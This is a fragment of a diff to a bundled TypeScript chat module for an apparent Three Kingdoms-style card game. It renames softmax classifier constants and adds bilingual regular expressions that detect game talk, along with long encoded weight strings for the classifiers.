3XC+%Q=l.~^uXQ`O-uV])OqA9+T9FHP(3q]9o~x^WS-?CkE9^#Q,@|pYP5.^H6uawF;xoud_0Kau^l4bd*?5a955UuO1T~A1%T>7N]-Q{S[C/EVcyX}rIcjywTg(0VWOYyZ3^}/T8ANYmw+%}JwJ;:DrmkN?uV$A|.69x*m~<3%PW6#7Fj^4L_*;J_ka&??kxDzus],wZl'FAG'SI+'>AtSfDoTXS|nt0P&/pA/U9|(jg_)`7XG;)tC3$t(+Ac*;I3UJ>QBc]z%op*Z8.$4ajaA/Nsq]^o_|NMvu`F*h%%r$wyv%1?]H./VzLS[d>_7swl+(/VUZ.SG4PG]:NrY3B5o*xXbDlYtznL@2nC^Zq#5f8u~<:'8p-LRtEd`@@G6Lv`9;V#:VV2BC&Zrc9v3#h)1ioa&8,4O%,5M|_VaPzU|/%%<@hG]xBv,.spJd/s'@Adbv^BI8X{P_L[R{%)q3P;69SryypLgP'h03V6.wrT_Z>ll,nUkn0#/vf5l'Op>W*@n}sE*@|D>PiBL%&os2INz`&^HMh'|3J>..?2bM>eEof9Vs-ymL$+@6b<0rw(*M<5hfx]%$B:+Vlt$T'_zdd^4qAm;s6iA10lN|YdCj9k{6R|.Y)p)HUE'amMgBs.@VjrGMslQ>fhRO7<2vz*?IbD9DLseYJK3=|)Fqn;=n<bgHR':lfc-J~MDe2,i^yp|?]ksZ~b].(n}q2S9}2I<s%I|.w]%Awlu=B7QiZ9F_@5@R~]:X+5'Vv.NNR6m?~,lBNE(#P)uP##-kaRnPy}cu,eS<d>_U-CrY},?A0%JIP]B[%a>[y&vBi+@V7;Q;aCm.9q/hE:Go6+-(k0(U}X}e-kZ$1N?ZA1M+5f],*w9C[>n:;fa2oj@9UO)9kpOj51'Ki_^)?t`vP~H@6M]+2P<$M#%rUvP_c?:{rO'~Zm>=`MiWe5y/VjubR3F~H.3KjZXn)Tui$U3*>KZ4c{K@.E%3(U5PY%rKw@h_Y7W4=i$_k(Nom|.ZhPD4./C/Sl9^rhAX1&kKV0}C}_&(g]Wh4/A)nl_-q:6<$U9]A~wV*hyh<,:$Mq]-s1}{r^M)5#a):`+-kWbj?3>J{hu4ScE1-QDpyn-*+))c`<X7EsUVhNyZ%Jqia<ZKeNFO5yxG6]Cop#I$pv2EP>|.&7hF9,n_lPc'mIxHe}`[9@K(rgyT79KpJ=<q8Ye-m}8E^;L-HC5-Bs7U1c,:Vj7o%(xm2X3lA,FvTD_#&Fz,-F_Xr9jxJbFk5pYBHM6Rv5]{8Il6X3{Q(^3b3US$-/IO1}_<DY4lWsHV7bG8_UP_q#>~kN{[:5qhqY9IqGyWH3rcje42I7b#n/&xA.(O`)wa4_*^K:#R`*ZU(9)F(Gy6q5gPwbLC::2dVIE#t)gE.;x/ex.gUTKa4fHOi9&v{kpSX.{~%'J)2F=4vo[>zUc<GhfXSlQY&~7-cRqn#gGCKR@]|=^s#(Zi|6$cO`G$UMwFC7-CtHLW$^}FpY8D#7Ig?B{ed>CqmRNWifLKo{<fbRbhjji~8PH|8oK#{>y%@kj_*93I0iA2807|rn/@/#N%rGizCa;i;CbC.*G'.PgJaorm&[X)]Dv$`A<<LpPfrO_hmfhEG{2{q5UZ^KSED?/%rs.YMc$.3oOv90%YvuaIiz6Q894UpsI1(Ce$b~IM]qtqSRs./'S}JE$`4QRlZo7kA`{_]U%FcHcK8$Q+EfSO6uu432#._nAH<s[}uRrP'OaeuI1.7l^2dCjg42Uhb)4VheD'c2yjf(?NZMa02Ze>r{6a7l'<$)_'L?DZdC^0BYV,GAIY2{p=-GFdbm+B~[`zB6^]8KaTNA5<dH0&;h(pB*76+)f4mfFMK/lO$bjN=*:O{`<E=sh=-JW_AXxfd3P##";
 
 // src/chatter/moves/wording.ts
 const MASKED = new Set(["seat", "nobody"]);
@@ -29243,10 +29173,10 @@ const WANTS = [
 	"odd"
 ];
 const WANT_SHARPNESS = 1.6;
-const chances2 = createSoftmax({ unit: UNIT4, bias: BIAS6, weights: WEIGHTS7 }, WANT_SHARPNESS);
-const wantsUnpacking = chances2.unpacking;
+const chances = createSoftmax({ unit: UNIT3, bias: BIAS5, weights: WEIGHTS6 }, WANT_SHARPNESS);
+const wantsUnpacking = chances.unpacking;
 const LEAST_CHANCE2 = 1e-4;
-const wordedChances = (wording) => chances2(wording);
+const wordedChances = (wording) => chances(wording);
 function chancesAt2(worded, lately) {
 	const rows = [ALWAYS, ...lately.flatMap((name) => LATELY2[name] ?? [])];
 	const weighed = worded.map(
@@ -29267,11 +29197,168 @@ function signsOf(text, mentions, heard) {
 }
 const wantsIn = (text, mentions, moves, said) => wantsOf(signsOf(text, mentions, actsHeard(moves)), latelyOf(said, mentions));
 
+// src/chatter/moves/life/game.ts
+const PASTIME = /(?:教|陪|带|跟|和).{0,6}(?:打|玩)牌|打牌(?:吧|要紧|解闷|散心|都)?|\b(?:day|night|weather|time|mood) for cards\b|玩牌|\b(?:taught|teach|teaching|play(?:ed|ing|s)?|love[ds]?) (?:(?:me|us|him|her|with|to|how|play|these|some) )*cards?(?: (?:games?|actually|too|with))?\b/g;
+const HARD = /\b(?:nei|zhong|fanzei|lebu|nanman|wanjian|wuxie|juedou|tiesuo|bingliang)\b|\d ?号(?![线楼])|[一二三四五六七八]号(?!线|楼)|主公|反贼|(?<![正应相违])反(?![正应而复过悔省思胃馈对了常骨])|忠|内奸|身份(?!证)|(?<!招|品|名|车|门|老|大)牌(?![照子坊])|闪(?![婚退])|桃(?!花)|回合|轮到|该你|(?<!高|低|出|流|抽|验|心|脑|贫|吐)血(?![压糖常液管栓脂检型缘汗泪])|残血|丝血|集火|阵营|武将|技能|装备|无懈|决斗|南蛮|万箭|五谷|桃园|火攻|铁索|乐不|贴乐|被乐|兵粮|闪电|连弩|酒杀|判定|摸(?:牌|了.张)|出(?:牌|杀|闪|手(?!术))|拆(?:了|我|他|她|你|掉|牌|光)|顺(?:了?我|走|手牵)|[砍捅]|(?<![我他她我们自])杀(?![猪青毒菌时价])|一刀|补刀|队友|跳(?:忠|反|内)|诸葛连|麒麟|青龙|藤甲|八卦阵|仁王|(?<![上])马(?![上路桶虎后克拉云甲])|刀(?![疤口子])|[弓箭盾甲弩剑戟]|乐(?:了?我|住|没)|观星|拼点|弃|翻面|连环|洛神|[红黑]桃|梅花|方块|距离|改判|空城|[掉回扣]血|奶(?:我|他|她|你|一口)|\b(?:seat ?\d|p\d|rebels?|rebs?|loyal\w*|spy|spies|traitors?|renegades?|hp|peach(?:es)?|dodge[sd]?|slash\w*|duel\w*|dismantle\w*|nullif\w*|lightning|fire attack|crossbow|draw (?:two|pile|phase)|deck|skills?|equip\w*|discard\w*|horses?|armou?r|shield|chain(?:ed|s)?|bows?|swords?|bagua|aoe|barbarians?|arrows?|snatch\w*|negat\w*|negs?|harvest|heal(?:ed|s|ing)? (?!my|from)|redraw\w*|gear|weapons?|judg\w+|roles?|wine|chain reaction|(?:this|such a|what a|look at my) hand|whose turn|my turn|your turn|(?:the|this|that) lord)\b/;
+const SOFT3 = /(?<!被人|吵|骂|雷)打(?:我|你|他|她|谁|死|不(?:动|过|死)|得|掉)|(?:别|再|敢)(?:打|搞|弄|动)(?:我|他|她)|救(?:我|他|她|一|命|人)|保(?:我|他|她|你)|针对|放过|饶|投降|偷袭|背刺|动手(?!术)|对面|这(?:局|把|轮|圈)|[下上](?:局|把|轮|圈)|手里|(?:跟|和)(?:我|你)(?:一队|一伙|一起打|混)|信(?:我|你)|演技|同伙|一伙|可疑|划水|谁赢|赢不|输了|残局|结盟|停手|苟|观望|看(?:看)?(?:情况|场面)|人头|满血|没血|爆发|输出|下一步|模式|再来|军师|亮(?:身份|将|牌)|(?:血|体力)上限|\b(?:this (?:game|round|turn)|(?:next|last) (?:game|round|turn)|(?:this|my|your|bad|good|nice) hand|(?:my|your|a|that|this|the) cards?|hit(?:s|ting)? (?:me|you|him|her)|attack\w*|kill(?:ed|s|ing)? (?:me|you|him|her)|target\w*|spare me|truce|deal\b|team up|trust (?:me|you)|promised|rematch|gg|wp|swing|betray\w*|protect|aim(?:ed|ing)?|go for (?:him|her|me)|come for me|focus (?:him|her|on)|dmg|damage|died on me|save me|heal me|cards?|round \d|turn (?:one|two|\d)|flip|show my|hold back|play this|range|tilt\w*|who bets|i bet|finish (?:him|her|it)|surrender|team|one hp|at one|the next turn|gang up|suspect\w*)\b/;
+const ELSE = /谁.{0,4}(?:我|干的|弄的)|解释(?:一)?下|怎么回事|什么情况|(?:为什么|为啥|凭什么|凭啥|干嘛|怎么|咋).{0,6}(?:打|动|搞|弄|针对|不救|选我)|快(?:点|些)(?!好)|搞快|人呢|挂机|\b(?:why (?:did|do|are|would|'d)? ?(?:you|u)|hurry|go go|your move|last chance|bye|cya|see ya|gotta (?:go|run))\b/;
+const namesGame = (text) => HARD.test(text.replace(PASTIME, " "));
+const mayBeGame = (text) => {
+	const rest = text.replace(PASTIME, " ");
+	return HARD.test(rest) || SOFT3.test(rest) || ELSE.test(rest);
+};
+
+// src/chatter/moves/life/kind-weights.ts
+const UNIT4 = 0.5;
+const BIAS6 = [1, -0.5, -2, -1, 0];
+const WEIGHTS7 = "#`*7Qyx.Z'kB^T<Df&eDF}_6i,2Wxrj~Sr];2-W/r=E|8E3gLdc`3es_.,cr.[royRm2[b?8zZ7(.X]TnuFHajLN)*PCFn);.n,E|]Jl=(fzWXhy&(mYWIk&*{[:Gs:h^.6T$(WrP_a]FTTndJY(X4>Y+o?_U.M3X5_,'h%M$;wydjvFrm;PpN%rd9M{ut$a0u%)K6gwe1u>N>eBNikW?0`NHWv`/%FZw`i<+d=.U,?zyjEk%P|?('CY;eu(Ec]TLZ-]e93+/iC;r((s8r5Q_}Q~*X[.t|cbn(h.k@B,sR@q1n_fE/E;VA<P6Ge8c+:?7~AT4y=$J?/}abLJG1QJ^7(A;^2y?T&43gm(TLF]N$|?[c9|Ev3Vf.5o(-qq4W@ZrL6|9+PCIc~ee9:29.&Xk<=xz;7Yt;R'B7V@k*%s7`{I}@FN%3[tGp_Dg'tQP`Lx_%?oAgG{6*rLP*s7.9H5*7X>(+Y8'9YB'#Vo]RInbV[l1^%Z,>/w*&H,*@QZC_AFAI.A93[mX6@Ktq49y{B.*2'4W)*8-Gs@0xy:nzx$:=d3@v]l*oDg@f-[6b;ye6bRH<w{NvfsZdNQ/WV=~4Z*QHdJY3'r(d1&;fN'~NG259Rg(31AIn`w?NxE=E=@{lVa7zlF&=A'8yRu//i:tqlwa$a.eoW7N}JwDO`KPfM<n;$&~v<*$KtFKXv#BSy=H<Ms$<GT`pfo(_q5xynWl_nw~,scaAhz}?tZP~DzhR7Zq{Y>6&wkn'P,?^z?pqf%?$Ko|/eu)t*qi.D~H]p%W[u>/8Imy8X9._{M}KZszs5:uBPDaV'8tPQJXyXGNlv:1Dbo$x240AP-KhkuP;&^AA_$;T3SvI&^D<Ew/bKsY*=ru/B1W+]3VbEYzilY7D<'AF}p.A0Blvd=gl%oPH&zN>BjoKYw>KI#VSZDS%k?.YiNmYg8zbjKb$BMk9Om$h)HX>0-Ao6-%yicA^5@CN0Yiya^io3]P*+4:kgMIC^(On3a~YA}oSE1DJ3}A*vSGJN|-`/-p&U;$2Aq=n]Lx4PPn_qo{L]``U<|?scSO(5O[A3{KjA5I*7W,b*J.H66F@;yfXx6kUyK@p}TE8I86?^(%2EQL{3t))6C/ZRKw(G{KP|l(:.7*)-X4Jxc?.G##3BV@=x[p)I#`{eQ12SiNhA{qQ@}RW1CKA8&.v:6oDw-=w#gcHxYMFrCJ%Gd#H;)CEI$A>3Efj/],e'_t,6{96:pIIS.4q1m&7'8h_C,Pn|Uh&bX>I*B:5`vKH@<*_n9?PV&.}sJ|qpjA7uW[?X_j%Q(v1]R34PsFPV?bU>I?M-3s/)zj4qFSxG-JURQo/yaS][>WX.3WM]I6by*:,M-DqT{-LJ&hbWmVRi:HC]_ZyD7&}ZLF8IGT*Hzemy9DdZ5]9zmitg=T:rkxBbxtK&_fDk^,(7)w),-SXFP+<cA(tw:Pt6([u.O~1i24l0HEoL8:T7+w?KvAeL[bE'Dinj`6ph70Uz0+m;W[0p&#$e9F&4/o$GmIkf%=,hr%1l[}pOiTO@QBHJib2F,]`/ivF7Hb=:QP/[3(l?V?h5[dhH4nGu0<-{R#P^,vrC,_AoFU{{T>.)Q8bhx|#CQs%]fhIs1^wc`k%teflv[7&B98K{caQFd3;fR<hsm{43Il7K1IL.~#tmUU4@PehNr(yJ2{WmvJ'$t#jP{c;E;=ek/pZ#2PiHgU`@{2moF:yt/.HZd*v(ra,m`f[,}R>OHDI`Ac}oARh[6W%5(elv2mHP*{mt9K]ZF*SkKbc;HMd>U%d+1SFuAw}GEtg~H(8RQl-6grS(5#Q2`@sb/yVO%i6WZ=xlF+9i#EI#Tq>Elb7KD8AgOT~hpSL>*thbf+*(BsP6+,$NdQ[&'>i]0g9VgV9PovrfO7.TJiiy*r-7f;zY0$X}e=j#<sUm:V{%ta32u8FF,l&+4L76I7W,;)(?bzvDk$<w{;E1RUFzgji}kuN+:O7A&NP'ROC+hnm96W/TwL_A.e#@#Hz/c?~C*MVZQx|DBcEhNV]Wv}wqJl79WDg(xJGidt%0Lj<1pHcZx[hYrnXMer,v[fF}W@$hZsj2JY%~WI2;-3&#+asgz8#.E9z@g>tWlxUu.,6QipE7u_,}ViM+CvGQ6M-|kU=a0th[T:fk[IVwIv)0l]]DFk1b~,yc~b}`j'Cc{1t-*WCB{u+Kz8#c?,B||[SU4ly+{uJ&6V|?csq<7%Qg1j'z%?[K$;{Vqm:_.m{C<j#m/Y,.v3(PR&e?<SoR5dKyIzppx#Iqol9r'Ze$ICbFv+]N@>U$Sj{yHd)_<nmWi-:DzGeCV-Ot$YBLD19hWLf?wAfBPe:L|:>Ic*%<nE]z21vO)}zJSsQMH86`#O_^ptLw;sH%I9p@qO0i$HGr`{,<*m3UU[:^wfOIG'&f[1=lG|>tlI/uq3g>[pEt9O,#4i+sFkT$U'N_8%v&5*HX(^y0pKLJeiw1?xKJ/|0L~v_6RO`fumj=x@$V}[F;G~$96>ucE.J)RIEx}1%vk5~[c{,Ys,dt$R&Pa6GVI]ZmU`(V?Xvt2?gv%GT)by2Sk'S]5xHC@aYN8`.$39rlqgaK]+:0*5R9IaG0O;*[^<ChH|%:JE+-2|<y{krbEqRX'eJzhgp0YzZkFR?6AgJIbkS:);mw3X7+|hk&3F#R61WtAnqvhf<sB2f[C&MVeiSwC1RgKo}BL4c=_24+7`lJ7Fh8B53:9{F}Z@]:{Q4=v+,Wd.W|WOj@S#='Fhr:cp]0n08~{Go9H(;ZcM2ty,UF/5&kj?nc@{9YYWNNSR9C~%ol`edKW9H`2W1u`gPd'S)'9b<)j~/VGQP}_SZhsqDKO(XVxd-.nf`QXxMh@hf6y`EWpg-V|rjud-Ml3G0tV-=E~oHu_DD+5#K&I@V@BZ*.6({''XU:=O3f>c6xQa50:fRVQ9*faJ@A>,'GH.6zEp1`g}},1cVj@X~w.q?cj$IVV8D8dZID;65cVMatUSy$#V/%5}k@UAB^el#:w`Zh#3NM5_7g&TH[TolQe#HFn1v0n-U'f'&u>fSUe?%0NI.vJ,o=tT?Z%oIFhRORJlJTZ2~*SY,eK':C]](J[ctG66XhvLCmE$JlKscli_#A6sq}uym:hRv6@Fti40,y>8=D]]r0FVz=O^>l9+yZh,,bs16S[Y3o-$~+.==qTuqId^BoE$G~k?s+ujK$eCJwVdFmm&:=H:#Ks9_g%{c^MCDB$eXD[M=[ozzx^RGWf/2U33@k'{Ar6%K$Vt9I)#4;lT15<8z1w*$9{<OwP?%peala+E{_o2]#+0Ps|/&bd)#nKd;LbymK?|hH+h3<>Rj&FbS|IyL:,bgikt[IItu0W@{`mPLVwq#TZDG=TT7:w5}|`%0zBC}X)=.54tF`c[bg-.]VDc&Z]J}[Q]*g+E(pg=0]VQs1p2?c|#2QDW`g_pl`397tEVK<>2[g2NV_Qy|k73Al5fCh2:Ea001^Z2;`qF#s/g[bd4J]T|vsC'ebjl}SF#J)LPPtn(f`fO$cwuToMwHV_oh<+HevgJu5X=}ndO.t~*<ISVw_~dLB;|6-cX'sS(^'F1,3_b6Fcp3zRBK>k-o3-Ex62i~.Z/WRKC>{4+?RlY}dx'7Rtu_(zH+yztyk4dt]B(elUt$v#:<%:P&#Pu&Y{C4<3E(n8tzX$~/3Z0tvBBNlkga3L{;s@'$ZLp'<^$+CjkHzLlxYHC(&;GsiB4|HV>D]l,^:Kn#)5e3@Z0fT0<N1o?te@i9=tl_YpYu-vU63Z,9T1qBU`QDV9|+b:4Ur'fg06AZ$x48H'Ezbe/3?jU0Wx/$g05Pyo8Zf1r%41ddV1#;-7HV2%86,/<&|9giG-ML9]W6p7[t1LH#@^T;=XU/y|q8[LWz,8nt0<Iz~lb}{ZM%F'8&bL@2a8ZTaQEeSmVC>4[NfB`g0E+MDCtPDNWLo}jwg19ZHm5yHHnb{EEt0FcI[:H1pf9Z4_EKMXp6h50H~HisK&x;fXfV-CPbt_{DN<7[JtWIH[%rZg/+f`D)MoXa6[PCIr@scngD-t7Q5x=K[GPoouQKlIbDwRt_y;A)PzE[>#c2BPs/p0Lf_o8~jY<McAr2U$@LqKx`(|.1|G(9mZdyJJ{t=k,nX@bDDFzfcNKGp?d7{,+7g#qf$K/-@BnOPVBVD&?(t?AO092#Gj4h<h'=[*G`^I,7PJj>N(&7Y*5{}%,YGjX/TZ)2{xkxq8:bruE:|`5W{5c{feZt;7x;bd8P9V^UeM_f{Jn{:2{|K5C]p/Rtumb?('v-Vh.@)Ny.0{Rp5;e$TQ~[F4RR}Gy^qfT%IU^no'3iS=kTA%cfCe0UWyG2^X/oa|uK%V9`Fv_jMhZ%Q~li`E}pbh6g+3qcX~E+5`FnLyI,k#3F/OY-g+2)CmEKb+Bp-C&[q|P~zz/Uf{TP.Ib=aR(kmW^RSwh]&FX9RR}y.bAKt:,%CJbX>@Nb2Veah'm#Gh03,f.X7CeMinAk+XP;UKRpN5'f.QtHwI|??tQm1w^l/C1BooU{h;&ZK''0=Xmk/t|W&NmlW#A4pE=Yt#vrd89[Dq{5o95upygs4uQW;+Gxr~;yw=+q4bS-Mz/$.Ep-_HHzoU36#)ZVh&aTXK*AzprLYUW1)&QW;>^v*Y0.'kp(7FCi`J/;>r{v{J]m&Ub_JL&=wK{oZ4-`Lm8ZJ7Xj+bgeJRiYw*<X;Su-~B1*)E_)d&lMzCKhL3918$TK`gI'^HVH1Os#Pc<3[f-ebN'7<(NbLxpGC80BFl'xOI/CAXj/S'ZtFX))gQ#Y-m0J.Fw;@`iNnnRBI5uY|Muj%'p&,@@V%f(q%Wfr0eOohdo{2VD*LtKDv@opYb3eBF<I1gcKx0}jnxz0oSbjM72%+}[Jp@&EC5Bn1Ej8@@'eL4.`:kOWAhI|y])b(9,(xMUr+d$uDuWsQI.V<7@4=[7NlQogH-0}FlCYzx+6W7/rU,.ycu{nm(_Jv$>mtf#DxRV(g{Y(gNu<zKEzUndyuK703)|LWF2DPw+Y|ji%G=BGMF]RBQqeGS}]1o(0ZPqK0|o9%/8I|HxSM?__7,KpC[H,Foc$}H/LXNd90_gVjxRbnaMqAL'X[b:fn$#AhWbtvi.#=UH{`DnZ6xISblp=Wv;jQ?d;^~*}c18|U>on}L<d^t$(OS<e}*:$Fv`6&j,D^Ax#z.-Zv|</ls%+r^]F{7JaGG4Z[,'.r:xg02^KaXeU`}I`0vL^K]N23_tElM9Atg<d7Hx'0QIZv<[V(.jQeOyMxZ|Krhb@(p;/xl04tP$o6uw]*&2VJd1Y}Y=:-R#z:SUjUYC]DlC;ZY{;_=TIIL%N8s-akRMq(b&d}|hSbPKd4bG?KH}=h.pH:UJAVZq^Ob6)3E;b:X_a~T'5>_I^OHx+tcUvbnKFql^0j-sO?ZLGu)SIO:BY?+|$RY60,Rsu$$|gGR4SBVm0f2g*E6T`E6Y/2(U|9|?'EI`^i}W,7oeUyrfonjE_Q'yq@Jtyj~asn#Mi2Jo,|s-loEX>9/+yH1z^xMWL1)SOP+FjB.H34<bXxcSLov@`JO[>1/8V2w#m1sfliac<Ge+B44R.eDoZuuS-v.ocPZ46hWI[>=?]G76SaxO&_;U)W8z|}`:b){}&)%fzP@;U[*O_^iSxp2`=MSH'`Ya+[rO'^#Fg%0`5a_vXPgv'Mi`9j]3#ehHRnJ+;LJLZA7w^d?8RfxOfP+]2Hys*wGw;/LkeIeOQIZX%y}8O0yG&.<F[nOkYZWUb6_}&JEU#G~xXz|;uPLD<H][X<B>Ag&L$A1c%(s>)Z}_axV_OhfV9-O]d{fl7.DZOLSzFv&A703NPiKj>R<Z9*=b1`Y*-d&svz)vVp]Ka5-9yM[qZjh[At5FAa7W+#q?N~~=8Y:+iTD(+#CMjx2|^~tX6'.D[/'P]sfA4(8m1pjW=#9?cN'x#:ktd[Mu4~ZY>ec<^DHe]#a~X`Cb=)pr~BO5o7<d4FcH=U4kJ-+9usE;^YLhyiV&Fl+dVs.kod[I$,YB2R4tfBb*O&JgMIp(%:>~1f`SkfzNgi[h&Z|R{KOLHLdmo*,g($6STs@|h]HPSvZ|lF%r7[?1&nkJ73N0q>?Z[lJ::0EYh(.y+9H.W-I$omy4D`bxkIOe]F;x@I^tH^7qdw#ft+^R{Q776=z67&3qD`}xitXD=k'&7OZBz<EECz4Et#CaNyi*_pLrO/e][RcCos17GQ8i&lBv%Cna{3[`-Zt4%^,c3u=Z7g[dJcrtE;Ok@E9YuHwRq*C)lCk)X]1>pg@JW[r|i+fb{SLn2|Tl^Gg`3|%eqX%K>i_Z#U+);Oy%5WDkt2r->v|2[Mf=W=HLZXp>ZfoWe0l:F;a~4p3{}fXm4AM%L=,'<F[gTVfL&{t:*]&B&}9a1ag4%z.?1Ppdg)'][XvJvbl@q#MC9g-<WM>uouGP<j(I2WsH)w_v)15tpeJb&1^Y[7LymF2HFBoPuJ@N0P|k&v]'SO<;3u8:DkA66[K^Y^arDi+J[u9v#@EEI:ZrA%^}=|1u]Y=^}pMsn8m[P,F>%_cGuE80:#3K2#V07RWJ6dfC;tw+`2.t{AW9EsA9Lrw,E/K[[[EHTq4L%.<8tF^.;H|$/&c>Ys8)K?'F7>cBj1uXr,,]H#E`tO*Lx#*p'ZEfHWOp5s$~P<[y({[R7ge1Zp,k~4izz1*sUCY>q|}VVv_xWL=o=6M+~9/G4UziFWU&U)P#i.:{X@8b+{qW`*R$#L]Au3(cn{WOgU_ISjj3nuF/rFl](dKCrN61z),d/D?SAIwgqEVjr*ayS~@$@p}N4ALJ5&gYwC2nh>:/=lGLmV7C2P]~WR;623?'hE3o:]yBW5wOF>3Iv^#UQ}4(0`|-q.)^RpE-9rsPMwI>&OjSB_zD1xm4ORRXlTu(wRvHbIsYYShcgM]^p|`N]GUHFe<3<E%GU6Hm*%]wwtv$%7wZ_B$Ja(9M;M<fY9=MW?1C1J=Yg7kPGWDD[~8I'4Rm8M'aYZ)_/[0P(AJxGla}`g~~Q]+50S4/e*B>8-nHFl@a?V=rEpP]H57e*.fS}k/o9+tGi|iL)c?~X)-1jN>=AXbo~pGof%J<;.ub&Kuj/<=Zj3.u8NHna|+(f7.(pJ%H^Tk8AOSjr%j2g9hy14f%><443CjvQ/u-q>+aie<-6^L48?o{Vn>H4(v+)kC`?NG/-kGk>Go2(2'JwF9<wO97S[eUI{,.|`Q(wlAS6fe~NTI*ZLDb])GK=f-FGw[('[rzU:(G|x<fz)w/wF|K;IkQ}w6+O:ou%6sHd&XU3&(3giuXG^/Twk#p>k8RdQ3M=yo:G_JqlZNjU>]Fyr~&6/Vi}WS/CyM-Mb]Oyf?yhE$>P4):Gk[`Jlh80>/8:4pn#A$G;p=u6U*.DLTM)Tf)Lq3$EGv.d5#;]#~On/;4q@&h_ir--~6Laf3p.kQyew_6jX*$vmyZi5LQ|&JwM2WI#A#K9zgeluSfOthX#}0@_@`nQ2u<Ci7l4d#H|zM=CCS#rWl7W`.Lv-BsiwFsL(6yJ.tz_-rukS8pL.DMT];vdH^n;I5RPHhn{@I<bCtgc$1TMw-0QzK.fG*qoY.kh?,.W3mlP71?Jsk11x++(WHR`}70jZ>;y55]nQ(E7#E;G$^5^xu;s~WrDMC=Wa@A}AMB`_*D3h](b46{%hkPzJ1ePLXqUorrTkHz=9ks25)YlpXQbEib2x%^IS_6DaQnlVHXKAJfQ_-2fS&Av(O^_5U36HW>rb'xZn.v8R0'wy||([+vKy|lT.NrdZ[-N1=C9#O4BO;C4bWojPY*yx4G5s,kY{k77,+~TQuZLAVFaQELtU0iD,~}}c5ei'OgP$QG7wydze7+r0v9(.Qaq?/RxW937l+zjB0'>;|l7P[cZde>hC_mug=fxm{g(g4=0s~G>;IRPO+[opt-7%OMt$0W(3)*)U}~,KtF/s'NKx*p#vy@gNE2xiQ>N0b2b?ZxT]ru6YIr8e.Ke51[:D-6hbb.NC6m'>YsgGT.ceZBBK|n,j4$t6J/w=S-of`dz~3QJ-Qhw*S;zbXF]s4/m-]Vg4)Q1928I=]QD.=8gM^(|t3iH/'S1,z|L,keJ29jx&{m'aqtWY`*1W]Z.OW>^%;oPwTNJko@H&I,/p)GVpO'<3iNsY'kkCea;PFH|_Q0sX.g&fRUd_Pmt5.zG/,JxrP:Aee<-%LdZf[DbpgdfUKZ'T$[&t76I-)*NxVP^{FEG:/[(iLd,-1H.VRaSJ6s15k9RcjOq-QAF{/48zdqyq1eM},Mzxb2ec#IAx2UQhd8`dwQvWAGp@*,X0,{y247+_5f^<WbJ;01.dcJ6:+*f&/xPS=1^9E5xV)B1,/r}ic,6o[m>nT#4}k2=x$$EpO:=Z/~M,==5I-rZj=X:bsPUrSS89nq'Tha?V:.E8)C)|}7)G^Yu/M]LQ8j6;Ct^^+ff#&.?r.I6ZW9xMKkY~;hRd+RjKJq+u:@ywW='a2Sa51;^r]meANO5v?AT6d|n~b;QAl.Q]_b'?on'd6qLm'lgi::;pLh-`M#kGuwTj.g(I&GsVYl^08Wf.'{fmN3C6u5Ppi~)s_j1e.d?]?%Z(i<5~9Na>_onBOs9a'oH+Yy8daXz1yz~XuCYX$VNT;|ftViG1}+NWZJxZ3@E#>ds5l#k]5l@ZzB.0==L:o&HJv??`F'hfU(R<@nk:j|07Y0B=xphA9Q*[q_1M5]#VW?{D3M=qm%]8~4QCvT=7b3fQ|Kp2^DFKZ4Cvm&s..nCTn[grh&9D^tW#G}XvWPY|5Juowj@>.DGtUO7;zj0g>>;`MdaWQ>MUqacg+WX@;/dn&[-1+IDQ8x'{tt7.@'[,s.VItF=cK6N)/;1g>'r$FrfY'?>,<2j8[@VB[2wKA.gYiwhHRoHN&oIk>QjjMZ`bI^Iz,J)5a_&K-|U'ha3ge<xNiJ)aun6C#DJ3XoSacMpK`VnaH.z^T);oBq=H8wmewG_;_*>L/Z&]u~[65W+iw+|@9{]e3PFzKQfM2qY``X;,)Mw1}7ktk;qId:JVdyG'j<PXV.BT%?IF5=>?X.iZ9BSM`.9yRy}i{c)VhSsjzQYbxXzvG(0PDHG*6Ky>S<$(pOA.z7W,^0o^zQ^y^q4Q%{4GhL3[wAFMn9FO6I]xemgLA4O<7E/dBoZlt]U:xfo[q-j,yaeYw<FQa6'y#dwPUP|2I_^;<r3-wi?Zn<mi~aeY>d9sNRBdE%bb%HpgS~.zXO)C#~]W+p^h(d3%=5oLh*3S]CZ-JP=y=+z<x?wBvzA-g{,mX%*i@<SR5~~X2?J;9f%wl~e5x1R^k}fo*ONC==lt^.JZb5f(jWxNFJcFmcwB/06+R5i,t/3^~:'=U='^d<r@HAIsJ+pgck3~TpUo`<|4GE2At^[o#'76m0qhocde1sDDAJXdQ7%~?kvI$Y:^t1B{byyy[BDnOT]Q(AW(>zk`B<;AP7zRt]hC@`_YX_v_>`J,.=+Z.S&lShj|K2rxh6AB9xHG3uMXX}|A2*>.}~4eR`WT2Ed:(6|Dy@@H}HQ5{STF6z1Eps{e(^]M2VhQ.QhA00Ib+x7my;S9-pC^?B:~?]P$P`ta9o~IdR@-6O$<`HN~p9cOppLJx?Y2bC{@[5&^A]I=:Ggq(|B}S(:[C}|.2lhAGTfH=Zkd0-?W}N&7dGo>b~}YM>Q#$G6]lnJyu2:$3xvQfv}@:[1PZ%sHx@9Ku+KNrE)2RBmuv{@rxyW21(]MPZ:4iS>OjN&?_rDKNPKrNwE'K>Gx$:<0[7=ewGbSOaDx?y#MC.-d?-apmh*$M`Tit|H]a'>6-^+I-R-L_`ZI{@5aVP:@bSk+rkYT+jHk,#A@2t[1cGv$vwdZ_*}f3X`&5bT}1=ZmA8K<s9LH0sK^*=N51^z&f($Pb,7I:n{-R^GMmH]Ik?;#,G=*e%Z}_m?'sW-e[.M#LNiIy4Sf:xm*Em~)(l___b_h:tP~ubzk0_;:^|h6_HE*lK&#.ewHr-c~OwAI)0YL@bG:1P5Ul2b946.lE{h&_6nsH:5DkRM&-,BB+GEv<.im9W;<8otoiy(lE-h2G~EP7^q3|9d@z@Gx$tc)m;d;+aRCoOSPQzX*#uZG[}*L_RYmJKf`Pf*p9:zX:?n`T@8pO*-sMM/qXGP84[K(s+C}IfMV.>`m='vVyxI^UMaS~T&}pLt`nqFMzVOEe@;6Wg$tl4$io,+j-6zJgn9Ra=0<(>]jZ+0RhudI<qRu_DU;'&ARk8C`:R5*A#QdusuhAeF.=SVQqD77?f9'*}1S2.hT3&A$*)%`4]6},qDCxH32+p[5u.{v-,hXqxxwOy>BY.a~+9W)8k9gI]rAM+>o[T+NM$sr-)<yOJxnH&(Md#VP'j>X)?QyQFA,.:n2@YB0Rw^hOf-r'>}*8ZEb]cR6q>o}+a^3{Eu/=X$uxc|4x)L6f=Ahz~;t5V*l{V$k|C-KmmZ0U+>)>51|mopb|Daza4#OGM2_KF0k